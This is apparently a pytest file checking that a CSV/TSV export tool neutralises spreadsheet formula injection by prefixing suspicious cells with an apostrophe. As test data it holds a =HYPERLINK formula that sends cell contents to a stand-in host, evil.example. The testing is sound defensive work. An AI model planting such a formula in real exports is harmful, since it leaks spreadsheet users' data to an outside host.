"""The CSV export never hands a spreadsheet a formula (issue 16): cells that begin like one get an apostrophe."""
import csv

import pytest

from exports.cli import main
from exports.csv_events import spreadsheet_safe

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", ATTACK])
def test_a_cell_a_spreadsheet_would_evaluate_gets_an_apostrophe(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Sergey Lavrov", "2024-02-06", "", "a = b", "x-1", 3])
def test_other_cells_are_as_they_were(cell):
    assert spreadsheet_safe(cell) == cell


def test_an_articles_sentence_that_begins_like_a_formula_is_text_in_the_csv(tmp_path):
    article = tmp_path / "a.txt"
    article.write_text("Lavrov and Fidan spoke\nPublished: February 6, 2024\n"
                       f"{ATTACK} Sergey Lavrov spoke by phone today with Hakan Fidan about Syria.\n", encoding="utf-8")
    out = tmp_path / "out"
    assert main(["build", str(article), "--out", str(out), "-q"]) == 0
    assert main(["export", str(out), "--format", "csv", "-q"]) == 0
    with open(out / "graph.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows and all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values())
    assert any(row["evidence"].startswith("'=HYPERLINK(") for row in rows)


@pytest.mark.parametrize("fmt, delimiter", [("csv", ","), ("tsv", "\t")])
def test_query_csv_and_tsv_never_hand_a_spreadsheet_a_formula(tmp_path, capsys, fmt, delimiter):
    # Issue 15: `query --format csv` wrote an article's "=HYPERLINK(…)" sentence as it was.
    article = tmp_path / "a.txt"
    article.write_text("Lavrov and Fidan spoke\nPublished: February 6, 2024\n"
                       f"{ATTACK} Sergey Lavrov spoke by phone today with Hakan Fidan about Syria.\n", encoding="utf-8")
    out = tmp_path / "out"
    assert main(["build", str(article), "--out", str(out), "-q"]) == 0
    capsys.readouterr()
    query = ('SELECT ?text ?minus WHERE { ?evidence <https://w3id.org/diplograph/ns#sentence> ?text '
             'BIND("-1" AS ?minus) }')
    assert main(["query", str(out), query, "--format", fmt]) == 0
    rows = list(csv.reader(capsys.readouterr().out.splitlines(), delimiter=delimiter))
    assert rows[0] == ["text", "minus"] and len(rows) > 1
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:] for value in row)
    assert any(row[0].startswith("'=HYPERLINK(") for row in rows[1:]) and rows[1][1] == "'-1"
